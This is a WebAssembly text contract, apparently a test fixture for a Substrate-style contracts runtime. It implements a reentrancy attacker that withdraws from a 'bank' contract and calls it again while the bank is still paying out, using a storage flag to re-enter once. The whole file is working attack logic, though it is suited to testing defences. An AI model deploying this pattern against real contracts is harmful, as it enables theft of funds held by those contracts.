;; Withdraws from a bank, and again while the bank is paying. Asked with first byte 9: the bank's account is behind the selector.
;; Asked with anything else, by the bank: once more, if it has not yet.
(module
  (import "seal0" "seal_input" (func $input (param i32 i32)))
  (import "seal0" "seal_address" (func $address (param i32 i32)))
  (import "seal1" "get_storage" (func $get (param i32 i32 i32 i32) (result i32)))
  (import "seal2" "set_storage" (func $set (param i32 i32 i32 i32) (result i32)))
  (import "seal1" "seal_call" (func $call (param i32 i32 i64 i32 i32 i32 i32 i32) (result i32)))
  (import "env" "memory" (memory 1 1))

  ;; 64: key of the bank; 72: key of the mark; 100, 104: a length; 128: bank; 160: what the bank is told; 252: input; 512: zeros
  (data (i32.const 64) "bank")
  (data (i32.const 72) "mark")
  (data (i32.const 104) "\20\00\00\00")
  (data (i32.const 160) "\01\00\00\00")
  (data (i32.const 252) "\80\00\00\00")

  (func $rob
    (call $address (i32.const 164) (i32.const 104))
    (drop (call $call (i32.const 8) (i32.const 128) (i64.const 0) (i32.const 512) (i32.const 160) (i32.const 36)
      (i32.const -1) (i32.const 600))))

  (func (export "deploy"))
  (func (export "call")
    (call $input (i32.const 256) (i32.const 252))
    (if (i32.eq (i32.load8_u (i32.const 256)) (i32.const 9)) (then
      (drop (call $set (i32.const 64) (i32.const 4) (i32.const 260) (i32.const 32)))
      (i32.store (i32.const 100) (i32.const 32))
      (drop (call $get (i32.const 64) (i32.const 4) (i32.const 128) (i32.const 100)))
      (call $rob))
    (else
      (i32.store (i32.const 100) (i32.const 4))
      (if (call $get (i32.const 72) (i32.const 4) (i32.const 600) (i32.const 100)) (then
        (drop (call $set (i32.const 72) (i32.const 4) (i32.const 72) (i32.const 4)))
        (i32.store (i32.const 100) (i32.const 32))
        (drop (call $get (i32.const 64) (i32.const 4) (i32.const 128) (i32.const 100)))
        (call $rob)))))))
